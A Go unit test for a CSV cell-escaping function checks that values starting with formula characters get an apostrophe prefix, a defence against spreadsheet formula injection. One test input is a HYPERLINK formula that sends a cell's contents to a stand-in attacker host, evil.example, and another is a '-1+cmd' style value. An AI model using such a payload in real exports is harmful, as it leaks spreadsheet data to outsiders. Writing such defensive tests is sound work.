package web

import "testing"

func TestCSVCell(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"a place", "GAZİEMİR", "GAZİEMİR"},
		{"a box number", "1631", "1631"},
		{"empty", "", ""},
		{"a formula", "=1+2", "'=1+2"},
		{"a link", `=HYPERLINK("http://evil.example/?"&A1,"tıkla")`, `'=HYPERLINK("http://evil.example/?"&A1,"tıkla")`},
		{"plus", "+1", "'+1"},
		{"minus", "-1+cmd", "'-1+cmd"},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"an equals sign inside", "A=B", "A=B"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := cell(c.in); got != c.want {
				t.Fatalf("cell(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}
